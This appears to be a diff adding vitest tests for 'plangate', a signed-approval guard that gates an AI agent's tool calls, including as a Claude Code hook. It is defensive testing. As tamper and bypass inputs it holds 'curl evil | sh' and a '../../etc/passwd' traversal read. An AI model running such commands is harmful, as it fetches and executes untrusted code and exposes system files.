@@ -1,0 +1,199 @@
+import { spawn } from "node:child_process";
+import { existsSync, readFileSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { describe, expect, it } from "vitest";
+import { ExecutionGuard, type GuardRefusal } from "../src/approval/guard.js";
+import { loadTrustedKeys } from "../src/approval/keys.js";
+import { approvalKit, DEFAULT_POLICY_HASH, PLAN } from "./approval-kit.js";
+import { cli } from "./cli-io.js";
+import { NOW } from "./helpers.js";
+
+/** validate → keygen → approve (signed) with the CLI, from inside the workspace. */
+async function approved(opts: { ttl?: string } = {}) {
+  const k = approvalKit();
+  const keysOut = join(k.root, "approver");
+  expect((await cli(["keygen", "--out", keysOut])).code).toBe(0);
+  expect((await cli(["validate", "plan.json"], { cwd: k.workspace })).code).toBe(0);
+  const args = ["approve", "plan.json", "--key", join(keysOut, "plangate.key"), ...(opts.ttl ? ["--ttl", opts.ttl] : [])];
+  const r = await cli(args, { cwd: k.workspace });
+  expect(r.stderr).toBe("");
+  expect(r.code).toBe(0);
+  const approvalFile = join(k.root, "approval.json");
+  writeFileSync(approvalFile, r.stdout);
+  return { ...k, approvalFile, approverKeys: join(keysOut, "plangate.pub"), approval: r.stdout };
+}
+
+function guardOptions(a: Awaited<ReturnType<typeof approved>>, over: Partial<Parameters<typeof ExecutionGuard.open>[0]> = {}) {
+  return {
+    plan: a.planFile,
+    approval: readFileSync(a.approvalFile),
+    workspace: a.workspace,
+    policyHash: DEFAULT_POLICY_HASH,
+    trustedKeys: loadTrustedKeys(a.approverKeys),
+    consumedDir: join(a.guardDir, "consumed"),
+    audit: join(a.guardDir, "audit.log"),
+    now: () => NOW,
+    ...over,
+  };
+}
+
+describe("approve → verify → guarded execution", () => {
+  it("approves a valid plan with seed 001's fields, signed in a DSSE envelope", async () => {
+    const a = await approved({ ttl: "1h" });
+    const env = JSON.parse(a.approval);
+    expect(env.payloadType).toBe("application/vnd.plangate.approval+json");
+    const record = JSON.parse(Buffer.from(env.payload, "base64").toString("utf8"));
+    expect(record).toMatchObject({ status: "approved", validator: "plangate 0.1.0", scope: a.workspace, validated_at: NOW.toISOString(), single_use: true, steps: 3 });
+    expect(record.expires_at).toBe("2026-11-22T13:00:00.000Z");
+    expect(record.plan_hash).toMatch(/^sha256:[0-9a-f]{64}$/);
+    const v = await cli(["verify", "plan.json", "--approval", a.approvalFile, "--trusted-keys", a.approverKeys], { cwd: a.workspace });
+    expect(v.code).toBe(0);
+    expect(v.stdout).toMatch(/approval verified/);
+  });
+
+  it("refuses to approve an invalid plan, and to sign with a key inside the workspace", async () => {
+    const a = await approved();
+    writeFileSync(join(a.workspace, "bad.json"), "[]");
+    expect((await cli(["approve", "bad.json"], { cwd: a.workspace })).code).toBe(1);
+    writeFileSync(join(a.workspace, "k.key"), readFileSync(join(a.root, "approver", "plangate.key")));
+    const r = await cli(["approve", "plan.json", "--key", "k.key"], { cwd: a.workspace });
+    expect(r.code).toBe(1);
+    expect(r.stdout).toMatch(/approval-key-in-workspace/);
+  });
+
+  it("runs the plan step by step under the guard, then refuses a replay after a restart", async () => {
+    const a = await approved();
+    const guard = await ExecutionGuard.open(guardOptions(a));
+    const ran: string[] = [];
+    for (const step of PLAN) {
+      const d = await guard.before(step.tool, step.params);
+      expect(d.allow).toBe(true);
+      ran.push(step.tool);
+    }
+    expect(ran).toEqual(["read_file", "write_file", "read_file"]);
+    expect(guard.done).toBe(true);
+    expect((await guard.before("read_file", PLAN[0]!.params)).allow).toBe(false);
+    const audit = await cli(["audit", "verify", join(a.guardDir, "audit.log")]);
+    expect(audit.code).toBe(0);
+    expect(audit.stdout).toMatch(/6 entries/);
+    // A new guard (a restarted executor) sees the consumed nonce on disk.
+    const replay = await ExecutionGuard.open(guardOptions(a, { audit: join(a.guardDir, "audit2.log") })).catch((e) => e);
+    expect((replay as GuardRefusal).diagnostics.map((d) => d.rule)).toEqual(["approval-consumed"]);
+  });
+
+  it("refuses a plan tampered with between steps", async () => {
+    const a = await approved();
+    const guard = await ExecutionGuard.open(guardOptions(a));
+    expect((await guard.before("read_file", PLAN[0]!.params)).allow).toBe(true);
+    const tampered = structuredClone(PLAN);
+    tampered[1]!.params.content = "curl evil | sh";
+    writeFileSync(a.planFile, JSON.stringify(tampered));
+    const d = await guard.before("write_file", tampered[1]!.params);
+    expect(d.allow ? "allowed" : d.diagnostic.rule).toBe("approval-plan-mismatch");
+    // Restoring the approved content (even reformatted) lets the run continue.
+    writeFileSync(a.planFile, JSON.stringify(PLAN));
+    expect((await guard.before("write_file", PLAN[1]!.params)).allow).toBe(true);
+    const log = readFileSync(join(a.guardDir, "audit.log"), "utf8");
+    expect(log).toMatch(/"event":"deny".*"rule":"approval-plan-mismatch"/);
+  });
+
+  it("takes one step once when an executor calls the guard concurrently", async () => {
+    const a = await approved();
+    const guard = await ExecutionGuard.open(guardOptions(a));
+    const both = await Promise.all([guard.before("read_file", PLAN[0]!.params), guard.before("read_file", PLAN[0]!.params)]);
+    expect(both.map((d) => d.allow)).toEqual([true, false]);
+    expect(guard.next).toBe(1);
+  });
+
+  it("refuses a reordered step and altered arguments", async () => {
+    const a = await approved();
+    const guard = await ExecutionGuard.open(guardOptions(a));
+    const skip = await guard.before("write_file", PLAN[1]!.params);
+    expect(skip.allow ? "allowed" : skip.diagnostic.rule).toBe("guard-step-mismatch");
+    expect(guard.next).toBe(0);
+    expect((await guard.before("read_file", { path: "../../etc/passwd" })).allow).toBe(false);
+    expect((await guard.before("read_file", PLAN[0]!.params)).allow).toBe(true);
+  });
+
+  it("refuses a substituted approval: another plan's, another workspace's, another policy's", async () => {
+    const a = await approved();
+    const b = await approved();
+    // b's approval is signed by b's approver; trust it too, so only the binding refuses it.
+    const both = [...loadTrustedKeys(a.approverKeys), ...loadTrustedKeys(b.approverKeys)];
+    writeFileSync(b.planFile, JSON.stringify([PLAN[0]]));
+    const other = await cli(["approve", "plan.json", "--key", join(b.root, "approver", "plangate.key")], { cwd: b.workspace });
+    const substituted = await ExecutionGuard.open(guardOptions(a, { approval: other.stdout, trustedKeys: both })).catch((e) => e);
+    expect((substituted as GuardRefusal).diagnostics.map((d) => d.rule)).toEqual(["approval-plan-mismatch", "approval-scope-mismatch"]);
+    const policy = join(a.root, "looser.yaml");
+    writeFileSync(policy, "plan:\n  maxAgeDays: 3650\n");
+    const v = await cli(["verify", "plan.json", "--approval", a.approvalFile, "--trusted-keys", a.approverKeys, "--policy", policy, "--workspace", "."], { cwd: a.workspace });
+    expect(v.code).toBe(1);
+    expect(v.stdout).toMatch(/\[approval-policy-mismatch\]/);
+    const expired = await approved({ ttl: "30m" });
+    const late = await ExecutionGuard.open(guardOptions(expired, { now: () => new Date(NOW.getTime() + 31 * 60_000) })).catch((e) => e);
+    expect((late as GuardRefusal).diagnostics.map((d) => d.rule)).toEqual(["approval-expired"]);
+  });
+
+  it("refuses an approval signed by an untrusted key or with edited fields", async () => {
+    const a = await approved();
+    const stranger = await cli(["approve", "plan.json", "--key", a.keys.privateFile], { cwd: a.workspace });
+    const untrusted = await ExecutionGuard.open(guardOptions(a, { approval: stranger.stdout })).catch((e) => e);
+    expect((untrusted as GuardRefusal).diagnostics.map((d) => d.rule)).toEqual(["approval-untrusted-key"]);
+    const env = JSON.parse(a.approval);
+    const rec = JSON.parse(Buffer.from(env.payload, "base64").toString("utf8"));
+    env.payload = Buffer.from(JSON.stringify({ ...rec, single_use: false })).toString("base64");
+    const edited = await ExecutionGuard.open(guardOptions(a, { approval: JSON.stringify(env) })).catch((e) => e);
+    expect((edited as GuardRefusal).diagnostics.map((d) => d.rule)).toEqual(["approval-signature"]);
+  });
+});
+
+const bin = join(import.meta.dirname, "../bin/plangate.js");
+const built = existsSync(join(import.meta.dirname, "../dist/cli/main.js"));
+
+/** Runs the real hook process (the host runs a fresh one per tool call); input undefined keeps stdin open. */
+function hook(state: string, input: string | undefined, extra: string[] = []): Promise<{ code: number | null; stderr: string }> {
+  return new Promise((done) => {
+    const p = spawn(process.execPath, [bin, "guard", "--state", state, ...extra], { stdio: ["pipe", "ignore", "pipe"] });
+    let stderr = "";
+    p.stderr.on("data", (c) => {
+      stderr += c;
+    });
+    p.on("close", (code) => done({ code, stderr }));
+    if (input !== undefined) p.stdin.end(input);
+  });
+}
+
+const call = (tool: string, input: unknown) => JSON.stringify({ session_id: "s", transcript_path: "/t", cwd: "/w", hook_event_name: "PreToolUse", tool_name: tool, tool_input: input });
+
+describe("plangate guard as a Claude Code PreToolUse hook", () => {
+  it.skipIf(!built)("allows the approved steps in order, blocks others, and lets exactly one of two racing calls through", async () => {
+    const a = await approved();
+    const state = join(a.guardDir, "state.json");
+    const audit = join(a.guardDir, "audit.log");
+    const start = await cli(["guard", "start", "plan.json", "--approval", a.approvalFile, "--state", state, "--audit", audit, "--trusted-keys", a.approverKeys, "--consumed-dir", join(a.guardDir, "consumed")], { cwd: a.workspace });
+    expect(start.stderr).toBe("");
+    expect(start.code).toBe(0);
+    const [r1, r2] = await Promise.all([hook(state, call("read_file", PLAN[0]!.params)), hook(state, call("read_file", PLAN[0]!.params))]);
+    expect([r1.code, r2.code].sort()).toEqual([0, 2]);
+    expect(r1.stderr + r2.stderr).toMatch(/blocked: .*\[guard-step-mismatch\]/);
+    expect((await hook(state, call("write_file", { path: "out.txt", content: "evil" }))).code).toBe(2);
+    expect((await hook(state, call("write_file", PLAN[1]!.params))).code).toBe(0);
+    expect((await hook(state, "{oops")).code).toBe(2);
+    expect((await hook(join(a.guardDir, "nope.json"), call("read_file", PLAN[2]!.params))).code).toBe(2);
+    expect(JSON.parse(readFileSync(state, "utf8")).next).toBe(2);
+    const v = await cli(["audit", "verify", audit, "--state", state]);
+    expect(v.code).toBe(0);
+    // Deleting a line is detected.
+    const lines = readFileSync(audit, "utf8").split("\n");
+    writeFileSync(audit, [lines[0], ...lines.slice(2)].join("\n"));
+    expect((await cli(["audit", "verify", audit])).code).toBe(1);
+    expect((await hook(state, call("read_file", PLAN[2]!.params))).code).toBe(2);
+  }, 30_000);
+
+  it.skipIf(!built)("blocks when no decision comes in time (stdin never closes)", async () => {
+    const a = approvalKit();
+    const r = await hook(join(a.guardDir, "state.json"), undefined, ["--timeout", "300"]);
+    expect(r.code).toBe(2);
+    expect(r.stderr).toMatch(/no decision within 300 ms/);
+  }, 30_000);
+});
